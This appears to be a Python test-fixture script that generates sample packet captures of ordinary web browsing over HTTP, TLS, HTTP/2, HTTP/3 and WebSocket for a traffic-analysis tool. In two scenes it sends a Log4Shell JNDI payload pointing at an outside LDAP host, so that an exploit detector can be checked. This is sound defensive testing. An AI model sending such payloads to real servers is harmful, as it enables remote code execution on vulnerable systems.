"""Web browsing, in the clear and over TLS."""

from lab import Capture, Lab
from office import Office
from registry import Sample, scene
import services

FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
SAFARI = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15'


def curl(host, *urls: str, agent: str = FIREFOX, options: tuple[str, ...] = ()) -> None:
    outputs = [word for url in urls for word in ('-o', '/dev/null', url)]
    host.run('curl', '-s', '--max-time', '20', '-A', agent, *options, *outputs, show=' '.join(['curl', '-s', *options, *urls]))


@scene(Sample(
    'web-browsing.pcap', 'Two people browse five sites over HTTP and HTTPS: the ordinary traffic every tool must read without alarm.',
    'DNS look-ups, HTTP/1.1 with keep-alive, gzip in chunks, a form POST, redirects, 404, 403, a byte range and an interrupted download; TLS 1.2 and 1.3 with '
    'five server names, ALPN h2 and http/1.1, a certificate the client does not trust (alert), a plain-text request to the TLS port (400).',
    ['no `port-scan`: every connection was answered', '`cleartext-credentials` (once that detector exists): the form login of alice over plain HTTP, password masked',
     '`capture-quality`: clean'],
    ['http.response.code >= 300 | the redirects and errors', 'http.content_encoding == "gzip" | compressed pages, sent in chunks',
     'tls.handshake.extensions_server_name | the names asked for, readable before encryption starts', 'http.request.method == "POST" | the form login in clear text',
     'tls.alert_message | the client that did not trust the certificate']))
def web_browsing(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob'))
    authority = services.web(office.web)
    alice, bob = office.alice, office.bob
    with Capture(office.switch, 'web-browsing.pcap', 'tcpdump', '-i', 'br0'):
        site = 'http://www.example.com'
        curl(alice, f'{site}/', f'{site}/style.css', f'{site}/app.js', f'{site}/logo.png', options=('--compressed',))
        curl(alice, f'{site}/old', options=('-L',))
        curl(bob, 'http://intranet.example.test/', 'http://intranet.example.test/missing.html', 'http://intranet.example.test/private', agent=SAFARI)
        curl(alice, f'{site}/login', options=('-d', f'user=alice&password={services.PASSWORD}', '-L'))
        curl(bob, 'http://api.example.com/api/orders', agent=SAFARI, options=('-H', 'Content-Type: application/json', '-d', '{"item":7,"count":2}'))
        curl(alice, f'{site}/report.bin', options=('-r', '1000-4999'))
        curl(alice, f'{site}/photo.png', options=('-I',))
        trusted = ('--cacert', authority)
        curl(alice, 'https://www.example.com/', 'https://www.example.com/style.css', 'https://www.example.com/photo.png', options=trusted)
        curl(bob, 'https://shop.example.com/', 'https://shop.example.com/products.json', agent=SAFARI, options=(*trusted, '--compressed'))
        curl(bob, 'https://api.example.com/api/orders', agent=SAFARI, options=(*trusted, '--http1.1', '-d', '{"item":9}'))
        curl(alice, 'https://legacy.example.com/', 'https://legacy.example.com/about.html', options=trusted)
        curl(alice, 'https://cdn.example.net/app.js', options=(*trusted, '--tls-max', '1.2'))
        curl(bob, 'https://shop.example.com/', agent=SAFARI)
        curl(bob, 'http://shop.example.com:443/', agent=SAFARI)
        curl(alice, f'{site}/report.bin', options=('--limit-rate', '40K', '--max-time', '1'))


@scene(Sample(
    'web-http3.pcap', 'alice reads two sites over HTTP/3 with Chromium, bob fetches pages with the client of ngtcp2: web traffic that is UDP.',
    'QUIC version 1: hellos that Chromium cuts into pieces and shuffles, spread over two packets; hellos in one piece; handshakes, and then nothing that can be read. A client '
    'that names no server is refused in the clear.',
    ['no finding of medium or higher: HTTP/3 is ordinary traffic', '`capture-quality`: clean'],
    ['quic.long.packet_type == 0 | the packets whose keys anybody can make', 'tls.handshake.extensions_server_name | the names asked for, within QUIC',
     'quic.frame_type == 6 | the pieces of the hellos', 'quic.cc.error_code | the refusal']))
def web_http3(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob'))
    pin = services.web3(office.web)
    alice, bob = office.alice, office.bob
    quic = '--origin-to-force-quic-on=www.example.com:443,intranet.example.test:443'
    quiet = ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-dev-shm-usage',
             f'--user-data-dir={lab.folder}/chromium']
    with Capture(office.switch, 'web-http3.pcap', 'tcpdump', '-i', 'br0', 'port 443 or udp port 53'):
        for page in ('https://www.example.com/', 'https://intranet.example.test/about.html'):
            alice.run('env', f'HOME={lab.folder}', 'chromium', '--headless=new', *quiet, quic, f'--ignore-certificate-errors-spki-list={pin}', '--host-resolver-rules=MAP *.google.com ~NOTFOUND, MAP *.googleapis.com ~NOTFOUND', '--dump-dom', page, timeout=60,
                      show=f'chromium --headless --origin-to-force-quic-on={page.split("/")[2]}:443 --dump-dom {page}')
        for host, url in (('www.example.com', 'https://www.example.com/products.json'), ('intranet.example.test', 'https://intranet.example.test/app.js'), ('10.20.0.10', 'https://www.example.com/')):
            bob.run('gtlsclient', '-q', '--exit-on-all-streams-close', host, '443', url, timeout=20)


@scene(Sample(
    'web-tls-keys.pcapng', 'Pages over HTTPS, recorded with the keys: what TLS carried can be read, and one visitor tries a hole in Log4j where a tap sees only ciphertext.',
    'TLS 1.3 with AES-128-GCM, AES-256-GCM and ChaCha20, TLS 1.2 with AES-GCM, AES-CBC and ChaCha20; HTTP/1.1 and HTTP/2, a form login, a compressed page, a change of keys, a picture over several '
    'records. The key log that curl wrote is in the file (Decryption Secrets); of the last connection it was left out.',
    ['`exploit-attempt`: the visitor\'s user agent asks Log4j to look something up, within TLS', 'no `cleartext-credentials`: the form login travelled encrypted',
     'all but one of the TLS conversations are opened'],
    ['http.request | what was asked within TLS', 'tls.handshake.type == 11 | certificates, in TLS 1.3 too', 'tls.handshake.type == 20 | the ends of the handshakes']))
def web_tls_keys(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob'))
    authority = services.web(office.web)
    alice, bob = office.alice, office.bob
    plain, keys = lab.folder / 'web-tls.pcapng', lab.folder / 'keys.log'
    site, trusted = 'https://www.example.com', ('--cacert', authority)

    def fetch(host, *urls: str, options: tuple[str, ...] = (), agent: str = FIREFOX) -> None:
        outputs = [word for url in urls for word in ('-o', '/dev/null', url)]
        host.run('env', f'SSLKEYLOGFILE={keys}', 'curl', '-s', '--max-time', '20', '-A', agent, *trusted, *options, *outputs,
                 show=' '.join(['SSLKEYLOGFILE=keys.log', 'curl', '-s', *options, *urls]))
    with Capture(office.switch, 'web-tls.pcapng', 'dumpcap', '-i', 'br0', '-f', 'tcp port 443', settle=2.5):
        fetch(alice, f'{site}/', f'{site}/style.css', f'{site}/logo.png', options=('--http1.1', '--compressed'))
        fetch(alice, 'https://shop.example.com/products.json', options=('--http1.1', '--tls13-ciphers', 'TLS_CHACHA20_POLY1305_SHA256'))
        fetch(alice, 'https://api.example.com/about.html', options=('--http1.1', '--tls13-ciphers', 'TLS_AES_128_GCM_SHA256'))
        for suite in ('ECDHE-RSA-AES128-GCM-SHA256', 'ECDHE-RSA-AES256-SHA384', 'ECDHE-RSA-AES128-SHA', 'ECDHE-RSA-CHACHA20-POLY1305'):
            fetch(alice, f'{site}/about.html', options=('--http1.1', '--tls-max', '1.2', '--ciphers', suite))
        fetch(alice, f'{site}/login', options=('--http1.1', '-d', f'user=alice&password={services.PASSWORD}'))
        fetch(alice, 'https://intranet.example.test/', 'https://intranet.example.test/style.css', options=('--http2',))
        fetch(bob, f'{site}/', options=('--http1.1',), agent='${jndi:ldap://198.51.100.66:1389/a}')
        # K changes the keys of both sides (RFC 8446 section 4.6.3); one line is one command.
        asking = 'sleep 0.5; echo K; sleep 0.5; printf "GET /about.html HTTP/1.1\\r\\nHost: www.example.com\\r\\n\\r\\n"; sleep 1'
        alice.run('sh', '-c', f'({asking}) | openssl s_client -connect 10.20.0.10:443 -servername www.example.com -keylogfile {keys}',
                  show='openssl s_client -connect 10.20.0.10:443 -servername www.example.com -keylogfile keys.log  # K, then GET /about.html')
        curl(alice, 'https://cdn.example.net/app.js', options=(*trusted, '--http1.1'))
    office.switch.run('editcap', '--inject-secrets', f'tls,{keys}', str(plain), str(lab.folder / 'web-tls-keys.pcapng'),
                      show='editcap --inject-secrets tls,keys.log web-tls.pcapng web-tls-keys.pcapng')


@scene(Sample(
    'web-http3-keys.pcapng', 'Pages over HTTP/3, recorded with the keys: what QUIC carried can be read, and one visitor tries a hole in Log4j where a tap sees only ciphertext.',
    'QUIC version 1 with AES-128-GCM, AES-256-GCM and ChaCha20; HTTP/3 of Chromium, caddy, ngtcp2 and nghttp3, header fields packed with QPACK and its table; a change of keys, a client that moves to '
    'another port, a form login, a 404. The key log that the clients wrote is in the file (Decryption Secrets); of the last connection it was left out.',
    ['`exploit-attempt`: the visitor asks for an address that Log4j is to look up, within QUIC', 'no `cleartext-credentials`: the form login travelled encrypted',
     'all but one of the QUIC conversations are opened'],
    ['http3.frame_type == 1 | requests and responses', 'quic.stream.stream_id == 0 | the first request of each connection', 'tls.handshake.type == 11 | certificates, which are encrypted',
     'quic.key_phase == 1 | after the change of keys', 'quic.path_challenge.data | the client that has moved', 'http3.settings.qpack.max_table_capacity | who allows a table of header fields']))
def web_http3_keys(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob'))
    pin = services.web3(office.web)
    services.web3_tables(office.web)
    alice, bob = office.alice, office.bob
    plain, keys = lab.folder / 'web-http3.pcapng', lab.folder / 'keys.log'
    quiet = ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-dev-shm-usage',
             f'--user-data-dir={lab.folder}/chromium']
    only = 'NORMAL:-VERS-ALL:+VERS-TLS1.3:-CIPHER-ALL:+'

    def fetch(host, port: int, *urls: str, options: tuple[str, ...] = (), keyed: bool = True) -> None:
        name = urls[0].split('/')[2].split(':')[0]
        words = ['gtlsclient', '-q', '--exit-on-all-streams-close', *options, name, str(port), *urls]
        log = [f'SSLKEYLOGFILE={keys}'] if keyed else []
        host.run('env', *log, *words, timeout=20, show=' '.join([*(['SSLKEYLOGFILE=keys.log'] if keyed else []), *words]))
    with Capture(office.switch, 'web-http3.pcapng', 'dumpcap', '-i', 'br0', '-f', 'udp port 443 or udp port 4433', settle=2.5):
        page = 'https://www.example.com/about.html'
        alice.run('env', f'HOME={lab.folder}', f'SSLKEYLOGFILE={keys}', 'chromium', '--headless=new', *quiet, '--origin-to-force-quic-on=www.example.com:443', f'--ignore-certificate-errors-spki-list={pin}',
                  '--host-resolver-rules=MAP *.google.com ~NOTFOUND, MAP *.googleapis.com ~NOTFOUND', '--dump-dom', page, timeout=60,
                  show=f'SSLKEYLOGFILE=keys.log chromium --headless --origin-to-force-quic-on=www.example.com:443 --dump-dom {page}')
        fetch(bob, 443, 'https://intranet.example.test/app.js', options=(f'--ciphers={only}CHACHA20-POLY1305',))
        fetch(bob, 443, 'https://www.example.com/products.json', options=(f'--ciphers={only}AES-256-GCM', '--key-update=200ms', '--delay-stream=400ms'))
        tables = 'https://www.example.com:4433'
        fetch(alice, 4433, f'{tables}/', f'{tables}/about.html', f'{tables}/missing.html', f'{tables}/products.json', options=('--change-local-addr=200ms', '--delay-stream=400ms'))
        form = lab.folder / 'form.txt'
        form.write_text(f'user=alice&password={services.PASSWORD}')
        fetch(alice, 4433, f'{tables}/login', options=('-m', 'POST', '-d', str(form)))
        fetch(bob, 443, 'https://www.example.com/products.json?name=%24%7Bjndi:ldap://198.51.100.66:1389/a%7D')
        fetch(bob, 443, 'https://www.example.com/about.html', keyed=False)
    office.switch.run('editcap', '--inject-secrets', f'tls,{keys}', str(plain), str(lab.folder / 'web-http3-keys.pcapng'),
                      show='editcap --inject-secrets tls,keys.log web-http3.pcapng web-http3-keys.pcapng')


@scene(Sample(
    'web-http2.pcap', 'alice reads pages over HTTP/2 without TLS, as programs in one house do: by prior knowledge, after an upgrade, and several at once on one connection.',
    'HTTP/2 in clear (h2c): prefaces, SETTINGS, header fields packed with HPACK and its table, four requests on one connection at once, a form POST, a 404, a login with a '
    'password (Basic), refused first, and a request of HTTP/1.1 that is answered in HTTP/2.',
    ['`cleartext-credentials`: the logins of alice over HTTP, password masked', '`capture-quality`: clean'],
    ['http2.headers.path | what was asked for', 'http2.headers.status == 404 | the page that is not there', 'http2.header.repr contains "Indexed Header" | what was said in one byte',
     'http.upgrade == "h2c" | the upgrade', 'http2.headers.authorization | the login']))
def web_http2(lab: Lab) -> None:
    office = Office(lab, ('alice',))
    services.web2(office.web)
    alice = office.alice
    with Capture(office.switch, 'web-http2.pcap', 'tcpdump', '-i', 'br0', 'port 80 or udp port 53'):
        site = 'http://www.example.com'
        # This curl asks for one page in a connection that it knows to be HTTP/2, and goes on in one that was upgraded.
        curl(alice, f'{site}/', options=('--http2-prior-knowledge',))
        paths = ('/app.js', '/about.html', '/missing.html', '/products.json')
        ask = (f"const s = require('http2').connect('{site}'); let open = {len(paths)};"
               f"for (const path of {list(paths)}) s.request({{ ':path': path, 'user-agent': 'house-panel/1.4' }}).on('close', () => --open || s.close()).resume();")
        alice.run('node', '-e', ask, show=f'node -e "{ask}"')
        curl(alice, f'{site}/', f'{site}/style.css', options=('--http2',))
        curl(alice, f'{site}/login', options=('--http2-prior-knowledge', '-d', f'user=alice&password={services.PASSWORD}'))
        for password in ('wrong-one', services.PASSWORD):
            curl(alice, f'{site}/private', options=('--http2-prior-knowledge', '-u', f'alice:{password}'))


@scene(Sample(
    'web-socket.pcap', 'alice\'s page talks to its server over WebSocket, and a program does: what goes on behind a change from HTTP.',
    'WebSocket of Node\'s client and Python\'s websockets, each with a server of the latter: packed messages (permessage-deflate) whose window goes on, and none packed; text and binary, messages in several frames, '
    'masked and not, ping and pong, a message over several segments, closing with a reason.',
    ['no finding of medium or higher', '`capture-quality`: clean'],
    ['http.response.code == 101 | the changes to WebSocket', 'websocket.payload.text contains "hello" | what was said, unmasked and unpacked', 'websocket.fin == 0 | messages in several frames',
     'websocket.payload.close.reason | why it was closed']))
def web_socket(lab: Lab) -> None:
    office = Office(lab, ('alice',))
    alice = office.alice
    # Debian's own interpreter has the package python3-websockets.
    python = '/usr/bin/python3'
    serve = ("import asyncio, sys, websockets\n"
             "async def talk(ws):\n"
             " async for said in ws:\n"
             "  if said == 'ping': await ws.ping(b'there?')\n"
             "  await ws.send(['one ', 'two ', 'three'] if said == 'parts' else said)\n"
             "async def main():\n"
             " async with websockets.serve(talk, '10.20.0.10', int(sys.argv[1]), compression=None if sys.argv[2] == 'plain' else 'deflate'): await asyncio.Future()\n"
             "asyncio.run(main())\n")
    for port, how in ((80, 'packed'), (8080, 'plain')):
        office.web.spawn(python, '-c', serve, str(port), how)
        office.web.wait_for_port(port)
    with Capture(office.switch, 'web-socket.pcap', 'tcpdump', '-i', 'br0', 'port 80 or port 8080'):
        for url in ('ws://10.20.0.10/chat?room=7', 'ws://10.20.0.10:8080/chat'):
            page = ("const said = ['hello', 'hello again, hello', 'parts', JSON.stringify({ user: 'alice', text: 'x'.repeat(4000) }), new Uint8Array([1, 2, 3]), 'ping', 'grüße'];"
                    f"const ws = new WebSocket('{url}'); const next = () => said.length > 0 ? ws.send(said.shift()) : ws.close(1000, 'done here');"
                    "ws.onopen = next; ws.onmessage = next; ws.onclose = () => process.exit(0);")
            alice.run('node', '-e', page, timeout=20, show=f'node -e "new WebSocket(\'{url}\') ..."')
        program = ("import asyncio, websockets\n"
                   "async def main():\n"
                   " async with websockets.connect('ws://10.20.0.10/feed') as ws:\n"
                   "  for said in (['parts ', 'of the ', 'client'], b'\\x00\\x01', 'hello'):\n"
                   "   await ws.send(said); await ws.recv()\n"
                   "  await ws.close(1001, 'going')\n"
                   "asyncio.run(main())\n")
        alice.run(python, '-c', program, timeout=20, show="python3 -c 'websockets.connect(\"ws://10.20.0.10/feed\") ...'")
